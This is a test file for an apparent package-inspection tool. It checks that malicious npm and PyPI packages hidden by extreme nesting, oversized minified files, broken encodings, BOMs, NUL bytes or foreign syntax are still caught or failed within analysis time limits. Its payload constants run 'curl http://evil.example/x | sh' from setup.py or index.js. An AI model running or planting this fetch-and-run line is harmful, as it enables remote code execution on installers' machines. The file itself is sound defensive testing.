/**
 * Hostile source files: extreme nesting, huge minified lines, broken encodings, BOMs, NUL bytes, old or
 * foreign syntax; and the analysis time limits (per file and per artifact), which must turn an overlong
 * analysis into a failing finding instead of a hang.
 */
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { runDetectors } from '../../src/detectors/engine/run.js';
import { buildPackageModel, type SourceAnalyzers } from '../../src/detectors/model.js';
import { evaluate } from '../../src/policy/evaluate.js';
import { DEFAULT_POLICY } from '../../src/policy/schema.js';
import { contentsFromFiles, testEngine } from '../support/engine.js';
import { tarArchive } from '../unpack/tar-builder.js';
import { decide, expectFails, MiB, note, printSummary } from './harness.js';

printSummary('sources');

const RCE_PY = 'import os\nos.system("curl http://evil.example/x | sh")\n';
const RCE_JS = 'require("child_process").exec("curl http://evil.example/x | sh");\n';

function sdist(setup: string | Buffer, extra: Record<string, string | Buffer> = {}): Buffer {
  const members = Object.entries({ 'setup.py': setup, ...extra }).map(([name, body]) => ({ name: `demo-1.0/${name}`, body }));
  return gzipSync(tarArchive(members));
}

function npmTarball(index: string | Buffer, scripts: Record<string, string> = {}): Buffer {
  const manifest = JSON.stringify({ name: 'demo', version: '1.0.0', main: 'index.js', scripts });
  return gzipSync(tarArchive([{ name: 'package/package.json', body: manifest }, { name: 'package/index.js', body: index }]));
}

describe('extreme nesting (no stack overflow, never a pass)', () => {
  const N = 100_000;
  const python: [string, string][] = [
    ['parentheses', `x = ${'('.repeat(N)}1${')'.repeat(N)}\n`],
    ['lists', `x = ${'['.repeat(N)}${']'.repeat(N)}\n`],
    ['calls', `x = ${'f('.repeat(N)}${')'.repeat(N)}\n`],
    ['binary operators', `x = ${Array(N).fill('1').join('+')}\n`],
  ];
  for (const [label, code] of python) {
    it(`Python, 100,000-deep ${label} in setup.py: decided without a crash`, async () => {
      const d = await decide(`py deep ${label}`, sdist(`${RCE_PY}${code}`), 'demo-1.0.tar.gz');
      expect(d.contents.error).toBeUndefined();
      // The payload before the nesting is still found, or the file is reported as cut short: never a pass.
      expectFails(d);
    });
  }

  const javascript: [string, string][] = [
    ['parentheses', `var x = ${'('.repeat(N)}1${')'.repeat(N)};\n`],
    ['arrays', `var x = ${'['.repeat(N)}${']'.repeat(N)};\n`],
    ['functions', `${'function f(){'.repeat(N)}${'}'.repeat(N)}\n`],
    ['binary operators', `var x = ${Array(N).fill('1').join('+')};\n`],
  ];
  for (const [label, code] of javascript) {
    it(`JavaScript, 100,000-deep ${label} in the main file: decided without a crash, failed`, async () => {
      const d = await decide(`js deep ${label}`, npmTarball(`${RCE_JS}${code}`), 'demo-1.0.0.tgz');
      expect(d.rules).toContain('customs/uninspectable');
      expectFails(d);
    });
  }

  it('JavaScript nested 1,200 deep (node runs it; acorn overflows) hides no payload: failed', async () => {
    const code = `var x = ${'('.repeat(1200)}${RCE_JS.slice(0, -2)}${')'.repeat(1200)};\n`;
    const d = await decide('js 1200 deep', npmTarball(code), 'demo-1.0.0.tgz');
    expect(d.inspection.verdict.findings.some((f) => f.ruleId === 'customs/uninspectable' && /too deep/.test(f.message))).toBe(true);
    expectFails(d);
  });
});

describe('size and encoding', () => {
  it('a 20 MB single-line minified main file is not analysed: it runs at import, so the package fails', async () => {
    // Varied statements, so the tarball is not a compression bomb (that case is in bombs.test.ts).
    let seed = 1;
    const parts = [RCE_JS.trim()];
    for (let size = 0; size < 20 * MiB; ) {
      seed = (seed * 48271) % 2147483647;
      const stmt = `var v${seed.toString(36)}=${seed % 9973};`;
      parts.push(stmt);
      size += stmt.length;
    }
    const line = `${parts.join('')}\n`;
    const d = await decide('20 MB minified js', npmTarball(line), 'demo-1.0.0.tgz');
    const found = d.inspection.verdict.findings.find((f) => f.ruleId === 'customs/uninspectable');
    expect(found?.message).toMatch(/index\.js runs at import time but is larger than the source size limit/);
    expectFails(d);
  });

  it('a 7.9 MB minified main file (just under the Python size limit; JavaScript has 16 MiB) is analysed, or failed as over budget', async () => {
    let seed = 7;
    const parts = [RCE_JS.trim()];
    for (let size = 0; size < 7.9 * MiB; ) {
      seed = (seed * 48271) % 2147483647;
      const stmt = `function f${seed.toString(36)}(a){return a.x${seed % 97}+"${seed.toString(16)}"};`;
      parts.push(stmt);
      size += stmt.length;
    }
    const d = await decide('7.9 MB minified js', npmTarball(`${parts.join('')}\n`), 'demo-1.0.0.tgz');
    console.log(`[hostile:sources] 7.9 MB minified main file decided in ${d.ms.toFixed(0)} ms`);
    // Either the payload is found, or the analyser ran out of its time budget, which fails the package.
    const cut = d.inspection.verdict.findings.some((f) => f.ruleId === 'customs/uninspectable' && /index\.js was cut short/.test(f.message));
    expect(cut || d.rules.includes('code/command-execution')).toBe(true);
    expectFails(d);
  });

  it('a 9 MB bundled main file (a compiler shipped as one file) is analysed, not failed as uninspectable', async () => {
    const engine = await testEngine();
    const bundle = `"use strict";\nvar ts = {};\n// ${'x'.repeat(9 * MiB)}\nmodule.exports = ts;\n`;
    const contents = contentsFromFiles({ 'package.json': '{"name":"demo","version":"1.0.0","main":"lib/bundle.js"}', 'lib/bundle.js': bundle });
    const model = buildPackageModel(contents, 'npm', 'npm-tarball', engine.analyzers);
    expect(model.notes.oversized).toEqual([]);
    expect(runDetectors(model).filter((f) => f.ruleId.startsWith('customs/'))).toEqual([]);
  });

  it('a 17 MB file that only runs when called stays a low partial-analysis note', async () => {
    const engine = await testEngine();
    const big = `// ${'x'.repeat(17 * MiB)}\n`;
    const contents = contentsFromFiles({ 'package.json': '{"name":"demo","version":"1.0.0","main":"index.js"}', 'index.js': 'module.exports = 1;\n', 'lib/big.js': big });
    const model = buildPackageModel(contents, 'npm', 'npm-tarball', engine.analyzers);
    const findings = runDetectors(model).filter((f) => f.ruleId.startsWith('customs/'));
    expect(findings.map((f) => [f.ruleId, f.severity, f.message])).toEqual([
      ['customs/partial-analysis', 'low', 'lib/big.js is larger than the source size limit and was not parsed'],
    ]);
  });

  it('invalid UTF-8 around the payload: decoded with replacement characters and analysed', async () => {
    const bad = Buffer.concat([Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0x0a]), Buffer.from(`# \xff\n${RCE_PY}`, 'latin1')]);
    expectFails(await decide('invalid utf-8 py', sdist(bad), 'demo-1.0.tar.gz'));
    const badJs = Buffer.concat([Buffer.from('// '), Buffer.from([0xc3, 0x28, 0xf0, 0x0a]), Buffer.from(RCE_JS)]);
    expectFails(await decide('invalid utf-8 js', npmTarball(badJs), 'demo-1.0.0.tgz'));
  });

  it('a .py file that is mostly not UTF-8 and declares no encoding is a blob, not parsed; with a coding line it is code', async () => {
    const engine = await testEngine();
    // Bytes of an encrypted payload: every other byte an invalid lead byte, no NULs (so not "binary").
    const blob = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i % 2 === 0 ? 0xff : 0x41 + (i % 26))));
    const latin1 = Buffer.concat([Buffer.from('# -*- coding: latin-1 -*-\n'), Buffer.from(Array.from({ length: 200 }, () => 0xe9)), Buffer.from(`\n${RCE_PY}`)]);
    const contents = contentsFromFiles({ 'setup.py': 'X = 1\n', 'demo/__init__.py': 'Y = 2\n', 'demo/blob.py': blob, 'demo/legacy.py': Buffer.concat([latin1]) });
    const model = buildPackageModel(contents, 'pypi', 'sdist', engine.analyzers);
    expect(model.facts.get('demo/blob.py')?.calls).toEqual([]);
    expect(model.facts.get('demo/blob.py')?.parseError).toMatch(/Python refuses to compile it/);
    expect(model.facts.get('demo/legacy.py')?.calls.map((c) => c.callee)).toContain('os.system');
    // The same blob as setup.py: pip could not run it either. Not a silent pass: the partial analysis is
    // reported, at install time, so the package warns.
    const decided = await decide('py blob setup', sdist(Buffer.concat([Buffer.from(`${RCE_PY}# `), blob])), 'demo-1.0.tar.gz');
    expect(decided.inspection.verdict.findings.map((f) => [f.ruleId, f.severity, f.vector])).toEqual([['customs/partial-analysis', 'medium', 'install']]);
    expect(decided.inspection.verdict.decision).toBe('warn');
  });

  it('a UTF-8 BOM before the payload is stripped, not a hiding place (Python and JavaScript)', async () => {
    expectFails(await decide('bom py', sdist(`\ufeff${RCE_PY}`), 'demo-1.0.tar.gz'));
    expectFails(await decide('bom js', npmTarball(`\ufeff${RCE_JS}`), 'demo-1.0.0.tgz'));
  });

  it('NUL bytes in a JavaScript comment (legal to node) do not make the file "binary" and unanalysed', async () => {
    const js = Buffer.concat([Buffer.from('/*'), Buffer.alloc(2000), Buffer.from(`*/\n${RCE_JS}`)]);
    const d = await decide('nul js', npmTarball(js), 'demo-1.0.0.tgz');
    expect(d.rules).toContain('code/command-execution');
    expectFails(d);
  });

  it('NUL bytes in setup.py (CPython refuses to run it) are decided without a crash', async () => {
    const py = Buffer.concat([Buffer.from(RCE_PY), Buffer.alloc(500), Buffer.from('\nX = 1\n')]);
    const d = await decide('nul py', sdist(py), 'demo-1.0.tar.gz');
    expect(d.contents.files.map((f) => f.path)).toContain('setup.py');
  });
});

describe('old and foreign syntax', () => {
  it('Python 2 syntax (print statement, exec statement, backticks) still yields the payload', async () => {
    const py2 = `import os\nprint "installing"\nexec "x = 1"\ny = \`x\`\nos.system("curl http://evil.example/x | sh")\n`;
    const d = await decide('python 2', sdist(py2), 'demo-1.0.tar.gz');
    expect(d.rules).toContain('code/command-execution');
    expectFails(d);
  });

  const foreign: [string, string][] = [
    ['Flow', `// @flow\ntype T = { a: number };\nfunction f(x: T): number { return x.a; }\n${RCE_JS}`],
    ['JSX', `const el = <div className="x">{1}</div>;\n${RCE_JS}`],
    ['TypeScript', `interface I { a: string }\nconst v: I = { a: "x" } as I;\nenum E { A }\n${RCE_JS}`],
  ];
  for (const [label, code] of foreign) {
    it(`${label} in a .js main file: parsed loosely, the payload is found`, async () => {
      const d = await decide(`${label} in js`, npmTarball(code), 'demo-1.0.0.tgz');
      expect(d.rules).toContain('code/command-execution');
      // Known gap (SECURITY.md): acorn-loose nests the statements after a Flow-typed function signature
      // inside that function, so the top-level payload reads as "runs when called"; a command that downloads
      // and runs the download is high even then, so the package still fails.
      expectFails(d);
    });
  }
});

describe('analysis time limits', () => {
  /** The real Python analyser, made slow by a busy wait (analysers are synchronous, like a hostile parse). */
  const slow = (python: SourceAnalyzers['python'], ms: number): SourceAnalyzers['python'] => (file, source) => {
    const until = performance.now() + ms;
    while (performance.now() < until);
    return python(file, source);
  };

  it('a file the analyser gave up on (step budget or safety deadline) makes the package uninspectable (failed)', async () => {
    const engine = await testEngine();
    const gaveUp: SourceAnalyzers['python'] = (file, source) => ({ ...engine.analyzers.python(file, source), partial: true, parseError: 'analysis budget exceeded' });
    const analyzers: SourceAnalyzers = { ...engine.analyzers, python: gaveUp };
    const contents = contentsFromFiles({ 'setup.py': 'X = 1\n', 'demo/__init__.py': 'Y = 2\n' });
    const model = buildPackageModel(contents, 'pypi', 'sdist', analyzers);
    expect(model.notes.overBudget.map((o) => o.file).sort()).toEqual(['demo/__init__.py', 'setup.py']);
    const findings = runDetectors(model);
    expect(findings.filter((f) => f.ruleId === 'customs/uninspectable').map((f) => f.message)[0]).toMatch(/was cut short \(analysis budget exceeded/);
    const verdict = evaluate(DEFAULT_POLICY, { ref: { ecosystem: 'pypi', name: 'demo', version: '1' }, artifact: 'demo', findings, today: '2026-11-30' });
    expect(verdict.decision).toBe('fail');
  });

  it('past the artifact deadline the remaining files are not analysed, and the package fails', async () => {
    const engine = await testEngine();
    const files = Object.fromEntries(Array.from({ length: 10 }, (_, i) => [`demo/m${i}.py`, RCE_PY]));
    const analyzers: SourceAnalyzers = { ...engine.analyzers, python: slow(engine.analyzers.python, 20) };
    const start = performance.now();
    const model = buildPackageModel(contentsFromFiles(files), 'pypi', 'sdist', analyzers, { maxArtifactMs: 50 });
    const ms = performance.now() - start;
    note('artifact deadline', ms);
    // The deadline is checked between files: at most one file's time past it.
    expect(ms).toBeLessThan(50 + 20 + 200);
    expect(model.notes.unanalysed.length).toBeGreaterThanOrEqual(5);
    const findings = runDetectors(model);
    const message = findings.find((f) => f.ruleId === 'customs/uninspectable')?.message;
    expect(message).toMatch(/analysis deadline passed: \d+ source file\(s\) not analysed/);
    const verdict = evaluate(DEFAULT_POLICY, { ref: { ecosystem: 'pypi', name: 'demo', version: '1' }, artifact: 'demo', findings, today: '2026-11-30' });
    expect(verdict.decision).toBe('fail');
  });

  it('the defaults are 5 s per file and 60 s per artifact, and a normal package stays clear of them', async () => {
    const engine = await testEngine();
    const model = buildPackageModel(contentsFromFiles({ 'setup.py': 'from setuptools import setup\nsetup(name="demo")\n' }), 'pypi', 'sdist', engine.analyzers);
    expect(model.notes).toEqual({ oversized: [], overBudget: [], unanalysed: [] });
    expect(runDetectors(model).map((f) => f.ruleId)).not.toContain('customs/uninspectable');
  });
});
